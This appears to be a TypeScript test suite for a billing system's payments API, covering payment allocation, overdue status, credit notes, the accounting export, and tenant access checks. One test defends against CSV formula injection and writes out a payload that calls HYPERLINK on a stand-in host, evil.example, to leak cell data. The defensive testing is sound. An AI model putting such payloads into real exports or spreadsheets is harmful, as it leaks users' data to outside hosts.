import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import ExcelJS from "exceljs";
import { createTestApp, type TestApp } from "../../../test/http.ts";
import {
  bssCtx,
  createTestSubscription,
  type SubscriptionWorld,
  setupSubscriptionWorld,
  signInWorld,
} from "../../../test/subscription-fixtures.ts";
import { upgradeSubscription } from "../subscriptions/index.ts";

/** RFC 4180 fields: quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(field);
      field = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += ch;
  }
  if (field !== "" || row.length > 0) rows.push([...row, field]);
  return rows;
}

/**
 * R-PAY-01 over HTTP: due dates from payment terms, payments and their allocation, statuses
 * (Overdue by the manual clock), credit notes settling their invoice, balance and statement to
 * the cent, the accounting export (xlsx read back, CSV parsed) — with the security cases.
 */
describe("R-PAY-01 payments over HTTP", () => {
  let t: TestApp;
  let w: SubscriptionWorld;
  let as: Awaited<ReturnType<typeof signInWorld>>;
  let payer: string;

  type Cred = { cookie: string } | null;
  const call = (cred: Cred, method: "GET" | "POST" | "PUT", url: string, body?: unknown, headers = {}) =>
    t.app.inject({
      method,
      url,
      headers: { ...(cred ? { cookie: cred.cookie } : {}), ...headers },
      ...(body === undefined ? {} : { payload: body as object }),
    });
  const invoices = async (query = "") =>
    (await call(as.viewer, "GET", `/api/bss/documents?kind=invoice&sort=number&limit=100${query}`)).json()
      .items as Array<{
      id: string;
      number: string;
      accountId: string;
      issueDate: string;
      dueDate: string | null;
      gross: { decimal: string };
      paymentStatus: string;
      paid: { decimal: string };
      credited: { decimal: string };
      outstanding: { decimal: string };
    }>;
  const pay = (amount: string, extra: Record<string, unknown> = {}, cred: Cred = as.clerk) =>
    call(cred, "POST", "/api/bss/payments", {
      accountId: payer,
      method: "bank_transfer",
      paidOn: "2026-01-20",
      amount,
      reference: "BANK-1",
      ...extra,
    });

  before(async () => {
    t = await createTestApp({ start: "2026-01-15T09:00:00Z" });
    w = await setupSubscriptionWorld(t.deps);
    as = await signInWorld(t.app, w);
  });
  after(() => t.close());

  it("R-PAY-01 due date = issue date + the paying account's terms at issue; later terms do not move it", async () => {
    // Who pays for the world's customer: find it from a first invoice, then set its terms.
    await createTestSubscription(t.deps, w, { sku: "DBX-STD-MCMB", quantity: 2 }); // 30.00
    const [first] = await invoices();
    assert.ok(first);
    payer = first.accountId;
    assert.equal(first.dueDate, "2026-02-14", "default terms: 30 days");
    const url = `/api/bss/accounts/${payer}/billing-options`;
    const put = await call(as.clerk, "PUT", url, { paymentTermsDays: 14 });
    assert.equal(put.statusCode, 200, put.body);
    assert.equal(put.json().paymentTermsDays, 14);
    assert.equal((await call(as.clerk, "PUT", url, { paymentTermsDays: 366 })).statusCode, 400);
    assert.equal((await call(as.clerk, "PUT", url, { paymentTermsDays: -1 })).statusCode, 400);
    await createTestSubscription(t.deps, w, { sku: "DBX-STD-MCMB", quantity: 3 }); // 45.00
    const list = await invoices();
    assert.deepEqual(
      list.map((d) => [d.number, d.issueDate, d.dueDate, d.gross.decimal, d.paymentStatus]),
      [
        ["INV-000001", "2026-01-15", "2026-02-14", "30.00", "unpaid"],
        ["INV-000002", "2026-01-15", "2026-01-29", "45.00", "unpaid"],
      ],
    );
  });

  it("R-PAY-01 partial payment, auto allocation oldest due first, over-allocation refused, credit kept and allocated later", async () => {
    const [inv1, inv2] = await invoices();
    // INV-000002 falls due first (29 Jan): auto allocation pays it before INV-000001.
    const p1 = await pay("50.00", {}, as.clerk);
    assert.equal(p1.statusCode, 201, p1.body);
    const allocated = new Map(
      p1
        .json()
        .allocations.map((x: { documentId: string; amount: { decimal: string } }) => [
          x.documentId,
          x.amount.decimal,
        ]),
    );
    assert.deepEqual(
      [allocated.get(inv2!.id), allocated.get(inv1!.id), allocated.size],
      ["45.00", "5.00", 2],
    );
    assert.equal(p1.json().unallocated.decimal, "0.00");
    assert.deepEqual(
      (await invoices()).map((d) => [d.number, d.paymentStatus, d.paid.decimal, d.outstanding.decimal]),
      [
        ["INV-000001", "partially_paid", "5.00", "25.00"],
        ["INV-000002", "paid", "45.00", "0.00"],
      ],
    );
    // More than INV-000001 has left: refused, nothing recorded.
    const over = await pay("30.00", { allocations: [{ documentId: inv1!.id, amount: "25.01" }] });
    assert.equal(over.statusCode, 422, over.body);
    assert.equal(over.json().error.code, "R-PAY-01");
    // Allocations beyond the payment: refused.
    const beyond = await pay("10.00", { allocations: [{ documentId: inv1!.id, amount: "10.01" }] });
    assert.equal(beyond.statusCode, 422);
    assert.equal(beyond.json().error.code, "R-PAY-01");
    // Zero, negative, too many decimals: 400 naming the field.
    for (const amount of ["0", "-5.00", "1.001", "abc"]) {
      const bad = await pay(amount);
      assert.equal(bad.statusCode, 400, `${amount}: ${bad.body}`);
      assert.match(bad.body, /amount/);
    }
    // Unallocated: stays the account's credit…
    const p2 = await pay("40.00", { auto: false, reference: "BANK-2", paidOn: "2026-01-25" });
    assert.equal(p2.statusCode, 201, p2.body);
    assert.equal(p2.json().unallocated.decimal, "40.00");
    // …and is allocated later (only what the invoice still needs).
    const later = await call(as.clerk, "POST", `/api/bss/payments/${p2.json().id}/allocations`, {});
    assert.equal(later.statusCode, 200, later.body);
    assert.deepEqual([later.json().allocated.decimal, later.json().unallocated.decimal], ["25.00", "15.00"]);
    assert.deepEqual(
      (await invoices()).map((d) => d.paymentStatus),
      ["paid", "paid"],
    );
    assert.equal((await invoices("&paymentStatus=paid")).length, 2);
    assert.equal((await invoices("&paymentStatus=unpaid")).length, 0);
  });

  it("R-PAY-01 Overdue when the clock passes the due date; balance and statement to the cent", async () => {
    await createTestSubscription(t.deps, w, { sku: "DBX-STD-MCMB", quantity: 1 }); // INV-000003 15.00, due 29 Jan
    t.clock.advance({ days: 14 }); // 2026-01-29: due today, not yet overdue
    assert.equal((await invoices("&paymentStatus=overdue")).length, 0);
    t.clock.advance({ days: 1 }); // 2026-01-30
    const overdue = await invoices("&paymentStatus=overdue");
    assert.deepEqual(
      overdue.map((d) => [d.number, d.outstanding.decimal]),
      [["INV-000003", "15.00"]],
    );
    const balance = await call(as.viewer, "GET", `/api/bss/accounts/${payer}/balance`);
    assert.equal(balance.statusCode, 200, balance.body);
    const b = balance.json().balances[0];
    // 30 + 45 + 15 invoiced − 90 paid (50 + 40) = 0.00; 15.00 of credit waits unallocated.
    assert.deepEqual(
      [b.invoiced.decimal, b.credited.decimal, b.paid.decimal, b.unallocated.decimal, b.balance.decimal],
      ["90.00", "0.00", "90.00", "15.00", "0.00"],
    );
    const st = await call(
      as.viewer,
      "GET",
      `/api/bss/accounts/${payer}/statement?from=2026-01-16&to=2026-01-31`,
    );
    assert.equal(st.statusCode, 200, st.body);
    const s = st.json();
    assert.equal(s.opening.decimal, "90.00", "three invoices issued on the 15th");
    assert.deepEqual(
      s.entries.map(
        (e: {
          date: string;
          type: string;
          reference: string;
          amount: { decimal: string };
          balance: { decimal: string };
        }) => [e.date, e.type, e.reference, e.amount.decimal, e.balance.decimal],
      ),
      [
        ["2026-01-20", "payment", "BANK-1", "-50.00", "40.00"],
        ["2026-01-25", "payment", "BANK-2", "-40.00", "0.00"],
      ],
    );
    assert.equal(s.closing.decimal, "0.00");
    const bad = await call(
      as.viewer,
      "GET",
      `/api/bss/accounts/${payer}/statement?from=2026-02-01&to=2026-01-01`,
    );
    assert.equal(bad.statusCode, 400);
    assert.match(bad.body, /to/);
    // The unallocated 15.00 pays the overdue invoice.
    const payments = (await call(as.viewer, "GET", `/api/bss/payments?accountId=${payer}`)).json();
    assert.equal(payments.total, 2);
    const withCredit = payments.items.find((p: { reference: string }) => p.reference === "BANK-2");
    const alloc = await call(as.clerk, "POST", `/api/bss/payments/${withCredit.id}/allocations`, {
      allocations: [{ documentId: overdue[0]!.id, amount: "15.00" }],
    });
    assert.equal(alloc.statusCode, 200, alloc.body);
    assert.equal((await invoices("&paymentStatus=overdue")).length, 0);
  });

  it("R-PAY-01 concurrent payments on one invoice never over-settle it", async () => {
    await createTestSubscription(t.deps, w, { sku: "DBX-STD-MCMB", quantity: 4 }); // 60.00
    const inv = (await invoices("&paymentStatus=unpaid")).at(-1)!;
    assert.equal(inv.gross.decimal, "60.00");
    const results = await Promise.all(
      [1, 2, 3, 4].map((i) =>
        pay("60.00", { allocations: [{ documentId: inv.id, amount: "60.00" }], reference: `RACE-${i}` }),
      ),
    );
    assert.deepEqual(
      results.map((r) => r.statusCode).sort(),
      [201, 422, 422, 422],
      results.map((r) => r.body).join("\n"),
    );
    const after = (await call(as.viewer, "GET", `/api/bss/documents/${inv.id}`)).json();
    assert.deepEqual(
      [after.paymentStatus, after.paid.decimal, after.outstanding.decimal],
      ["paid", "60.00", "0.00"],
    );
  });

  it("R-PAY-01 a credit note settles the invoice whose charges it credits", async () => {
    t.clock.advance({ days: 2 }); // 2026-02-01
    const { subscription: sub } = await createTestSubscription(t.deps, w, {
      sku: "DBX-STD-AC1M",
      quantity: 3,
    });
    const before = (await invoices()).at(-1)!;
    assert.equal(before.gross.decimal, "40.50");
    // 10.00 of it paid, then an upgrade credits the rest of the installment (15 days of 28).
    await pay("10.00", { allocations: [{ documentId: before.id, amount: "10.00" }], reference: "PART" });
    t.clock.advance({ days: 13 }); // 2026-02-14
    const business = await w.product("DBX-BUS-AC1M");
    const up = await upgradeSubscription(t.deps, bssCtx(w), {
      subscriptionId: sub.id,
      targetProductId: business.id,
    });
    const credit = up.billing.charges.find((c) => c.kind === "credit")!;
    assert.equal(-credit.amount - credit.tax, 2170n, "40.50 × 15/28 = 21.696… → 21.70");
    const detail = (await call(as.viewer, "GET", `/api/bss/documents/${before.id}`)).json();
    assert.deepEqual(
      [detail.paid.decimal, detail.credited.decimal, detail.outstanding.decimal, detail.paymentStatus],
      ["10.00", "21.70", "8.80", "partially_paid"],
    );
    // More than what credits and payments left: refused; exactly what is left: paid.
    const over = await pay("50.00", { allocations: [{ documentId: before.id, amount: "8.81" }] });
    assert.equal(over.statusCode, 422, over.body);
    const exact = await pay("8.80", {
      allocations: [{ documentId: before.id, amount: "8.80" }],
      reference: "REST",
    });
    assert.equal(exact.statusCode, 201, exact.body);
    assert.equal(
      (await call(as.viewer, "GET", `/api/bss/documents/${before.id}`)).json().paymentStatus,
      "paid",
    );
    // Credit notes carry no due date and no status.
    const cn = (await call(as.viewer, "GET", "/api/bss/documents?kind=credit_note")).json().items[0];
    assert.deepEqual([cn.dueDate, cn.paymentStatus, cn.outstanding], [null, null, null]);
  });

  it("the accounting export: one row per document line and per payment, xlsx with real dates and numbers, and CSV", async () => {
    const xlsx = await call(as.viewer, "GET", "/api/bss/accounting-export?from=2026-01-01&to=2026-01-31");
    assert.equal(xlsx.statusCode, 200, xlsx.body);
    assert.match(String(xlsx.headers["content-type"]), /spreadsheetml/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0]!;
    const rows: unknown[][] = [];
    sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    assert.deepEqual(rows[0], [
      "Account",
      "Accounting number",
      "Document number",
      "Kind",
      "Issue date",
      "Due date",
      "Description",
      "Period start",
      "Period end",
      "Net",
      "Tax rate %",
      "Tax",
      "Gross",
      "Currency",
    ]);
    const inv1 = rows.find((r) => r[2] === "INV-000001")!;
    assert.ok(inv1[4] instanceof Date);
    assert.equal((inv1[4] as Date).toISOString().slice(0, 10), "2026-01-15");
    assert.equal((inv1[5] as Date).toISOString().slice(0, 10), "2026-02-14");
    assert.deepEqual([inv1[3], inv1[9], inv1[11], inv1[12], inv1[13]], ["invoice", 30, 0, 30, "EUR"]);
    // Payments dated in January (every test's payments but the idempotent one of February).
    const payRows = rows.filter((r) => r[3] === "payment");
    assert.deepEqual(payRows.map((r) => [String(r[2]).replace(/^RACE-\d$/, "RACE"), r[12], r[9]]).sort(), [
      ["BANK-1", -50, -50],
      ["BANK-2", -40, -40],
      ["PART", -10, -10],
      ["RACE", -60, -60],
      ["REST", -8.8, -8.8],
    ]);
    const invoiceRows = rows.filter((r) => r[3] === "invoice");
    assert.equal(invoiceRows.length, 4, "INV-000001..4, one line each");
    const csv = await call(
      as.viewer,
      "GET",
      "/api/bss/accounting-export?from=2026-01-01&to=2026-01-31&format=csv",
    );
    assert.equal(csv.statusCode, 200);
    assert.match(String(csv.headers["content-type"]), /text\/csv/);
    const lines = parseCsv(csv.body);
    assert.equal(lines.length, rows.length, "the same rows as the workbook");
    const c1 = lines.find((l) => l[2] === "INV-000001")!;
    assert.deepEqual(
      [c1[4], c1[5], c1[9], c1[12], c1[13]],
      ["2026-01-15", "2026-02-14", "30.00", "30.00", "EUR"],
    );
    assert.equal(
      (await call(as.viewer, "GET", "/api/bss/accounting-export?from=2026-02-01&to=2026-01-01")).statusCode,
      400,
    );
  });

  it("security: no session 401, viewer may not record 403, other tenant 404, Storefront only its subtree", async () => {
    const pays = (await call(as.viewer, "GET", "/api/bss/payments")).json().items;
    const payId = pays[0].id as string;
    const urls = [
      "/api/bss/payments",
      `/api/bss/payments/${payId}`,
      `/api/bss/accounts/${payer}/balance`,
      `/api/bss/accounts/${payer}/statement?from=2026-01-01&to=2026-01-31`,
      "/api/bss/accounting-export?from=2026-01-01&to=2026-01-31",
    ];
    for (const url of urls) {
      assert.equal((await call(null, "GET", url)).statusCode, 401, url);
      assert.equal(
        (await call(as.sfA, "GET", url)).statusCode,
        403,
        `${url}: a Storefront session is not a BSS one`,
      );
    }
    assert.equal((await pay("1.00", {}, null)).statusCode, 401);
    assert.equal((await pay("1.00", {}, as.viewer)).statusCode, 403);
    assert.equal(
      (await call(as.viewer, "POST", `/api/bss/payments/${payId}/allocations`, {})).statusCode,
      403,
    );
    // Another tenant: the payment, the account and its money do not exist.
    assert.equal((await call(as.otherAdmin, "GET", `/api/bss/payments/${payId}`)).statusCode, 404);
    assert.equal(
      (await call(as.otherAdmin, "POST", `/api/bss/payments/${payId}/allocations`, {})).statusCode,
      404,
    );
    assert.equal((await call(as.otherAdmin, "GET", `/api/bss/accounts/${payer}/balance`)).statusCode, 404);
    assert.equal((await pay("1.00", {}, as.otherAdmin)).statusCode, 404);
    assert.equal((await call(as.otherAdmin, "GET", "/api/bss/payments")).json().total, 0);
    const otherExport = await call(
      as.otherAdmin,
      "GET",
      "/api/bss/accounting-export?from=2026-01-01&to=2026-12-31&format=csv",
    );
    assert.equal(otherExport.body.trim().split("\r\n").length, 1, "only the header");
    // A document of another account cannot take the payment.
    const inv = (await invoices())[0]!;
    const strict = await pay("1.00", { allocations: [{ documentId: inv.id, amount: "1.00" }], extra: 1 });
    assert.equal(strict.statusCode, 400);
    // Storefront: its own account (or subtree) only.
    const sfUrl = `/api/storefront/accounts/${payer}/balance`;
    const sfOwnCodes = await Promise.all(
      [as.sfA, as.sfA1, as.sfB, as.otherSf].map(async (c) => (await call(c, "GET", sfUrl)).statusCode),
    );
    const own = payer === w.reseller.id ? [200, 404, 404, 404] : [200, 200, 404, 404];
    assert.deepEqual(sfOwnCodes, own);
    assert.equal((await call(null, "GET", sfUrl)).statusCode, 401);
    assert.equal(
      (await call(as.sfA, "GET", `/api/storefront/accounts/${payer}/statement?from=2026-01-01&to=2026-01-31`))
        .statusCode,
      200,
    );
    assert.equal(
      (await call(as.sfB, "GET", `/api/storefront/accounts/${payer}/statement?from=2026-01-01&to=2026-01-31`))
        .statusCode,
      404,
    );
  });

  it("Idempotency-Key: a retried payment is recorded once", async () => {
    const headers = { "idempotency-key": "pay-once-1" };
    const body = {
      accountId: payer,
      method: "cash",
      paidOn: "2026-02-14",
      amount: "1.00",
      reference: "IDEM",
      auto: false,
    };
    const a = await call(as.clerk, "POST", "/api/bss/payments", body, headers);
    const b = await call(as.clerk, "POST", "/api/bss/payments", body, headers);
    assert.equal(a.statusCode, 201, a.body);
    assert.equal(b.statusCode, 201);
    assert.equal(b.json().id, a.json().id);
    assert.equal(b.headers["idempotent-replayed"], "true");
  });
  it("the accounting export's CSV never hands a spreadsheet a formula: text fields starting with = + - @ are quoted as text", async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const paid = await call(as.clerk, "POST", "/api/bss/payments", {
      accountId: payer,
      method: "cash",
      paidOn: "2026-03-02",
      amount: "0.01",
      reference: evil,
      note: "@SUM(1+1)",
      auto: false,
    });
    assert.equal(paid.statusCode, 201, paid.body);
    const csv = await call(
      as.viewer,
      "GET",
      "/api/bss/accounting-export?from=2026-03-02&to=2026-03-02&format=csv",
    );
    assert.equal(csv.statusCode, 200, csv.body);
    const row = parseCsv(csv.body).find((l) => l[3] === "payment")!;
    assert.ok(row, csv.body);
    assert.equal(row[2], `'${evil}`, "the reference is text, not a formula");
    assert.doesNotMatch(row[6]!, /^[=+\-@]/);
    // Amounts stay numbers (a negative payment is not text).
    assert.equal(row[12], "-0.01");
  });
  it("R-DOC-01 R-PAY-01 a draft credit note counts nowhere: settlement, balance, statement, export, Storefront; issued, it counts", async () => {
    const inv = (await invoices()).find(
      (d) => d.paymentStatus !== "paid" || d.outstanding.decimal !== "0.00",
    )!;
    const snapshot = async () => ({
      detail: (({ paid, credited, outstanding, paymentStatus }) => ({
        paid,
        credited,
        outstanding,
        paymentStatus,
      }))((await call(as.viewer, "GET", `/api/bss/documents/${inv.id}`)).json()),
      balance: (await call(as.viewer, "GET", `/api/bss/accounts/${payer}/balance`)).json(),
      statement: (
        await call(as.viewer, "GET", `/api/bss/accounts/${payer}/statement?from=2026-01-01&to=2026-12-31`)
      ).json(),
      export: (
        await call(as.viewer, "GET", "/api/bss/accounting-export?from=2026-01-01&to=2026-12-31&format=csv")
      ).body,
      storefront: (await call(as.sfA, "GET", "/api/storefront/documents?limit=100")).json().total,
    });
    const before = await snapshot();
    const draft = await call(as.clerk, "POST", "/api/bss/credit-notes", {
      invoiceId: inv.id,
      reason: "Under discussion",
      whole: true,
    });
    assert.equal(draft.statusCode, 201, draft.body);
    const id = draft.json().id as string;
    assert.deepEqual(await snapshot(), before, "the draft changes nothing a clerk or customer reads");
    for (const url of [`/api/storefront/documents/${id}`, `/api/storefront/documents/${id}/pdf`])
      assert.equal((await call(as.sfA, "GET", url)).statusCode, 404, url);
    // Issued, it settles the invoice and lowers the balance by its gross.
    const issued = await call(as.clerk, "POST", `/api/bss/credit-notes/${id}/issue`);
    assert.equal(issued.statusCode, 200, issued.body);
    const after = await snapshot();
    assert.equal(after.detail.paymentStatus, "paid");
    const home = (b: typeof before.balance) => BigInt(b.balances[0].balance.minor);
    assert.equal(home(after.balance) - home(before.balance), BigInt(issued.json().gross.minor));
    assert.equal(after.storefront, before.storefront + 1);
  });
});
